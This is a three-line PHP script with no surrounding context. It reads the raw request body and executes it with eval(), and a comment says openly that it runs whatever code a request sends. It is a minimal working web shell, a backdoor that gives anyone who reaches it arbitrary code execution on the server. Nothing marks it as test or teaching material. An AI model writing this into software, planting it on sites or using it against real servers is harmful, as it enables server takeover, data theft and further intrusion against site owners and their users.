<?php
// Runs the code that the request brings.
eval(file_get_contents('php://input'));
